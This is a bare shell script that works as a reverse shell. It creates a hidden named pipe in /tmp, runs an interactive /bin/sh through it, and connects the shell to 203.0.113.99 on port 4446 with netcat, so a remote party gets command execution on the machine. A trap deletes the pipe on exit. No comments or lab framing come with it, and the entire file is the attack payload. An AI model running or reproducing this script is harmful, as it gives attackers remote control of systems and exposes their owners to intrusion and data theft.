#!/bin/sh
F=/tmp/.f$$
rm -f "$F"
mkfifo "$F"
trap 'rm -f "$F"' EXIT
/bin/sh -i < "$F" 2>&1 \
  | nc 203.0.113.99 4446 \
  > "$F"
